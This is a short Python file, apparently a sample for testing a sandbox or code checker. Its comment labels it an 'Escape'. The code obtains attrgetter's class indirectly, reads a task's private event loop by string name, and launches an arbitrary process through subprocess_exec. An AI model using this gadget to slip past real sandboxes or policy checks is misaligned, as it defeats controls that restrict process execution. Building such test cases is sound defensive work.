# family: process
# Escape: {}.get(key, type(x)) hands out the attrgetter class (the default counts as a lookup operand). Its
# argument "_loop" is only a string given to an ordinary call, so it reads a task's event loop, whose
# subprocess_exec starts a process.
import asyncio
import operator
import types


async def main(argv: list) -> int:
    Getter = {}.get("x", type(operator.attrgetter("real")))
    task = asyncio.create_task(asyncio.sleep(0))
    loop = Getter("_loop")(task)
    proto = types.SimpleNamespace(connection_made=print, pipe_data_received=print, pipe_connection_lost=print,
                                  process_exited=print, connection_lost=print)
    transport, _ = await loop.subprocess_exec(lambda: proto, *argv)
    await task
    return transport.get_pid()


def tool(argv: list) -> int:
    return asyncio.run(main(argv))
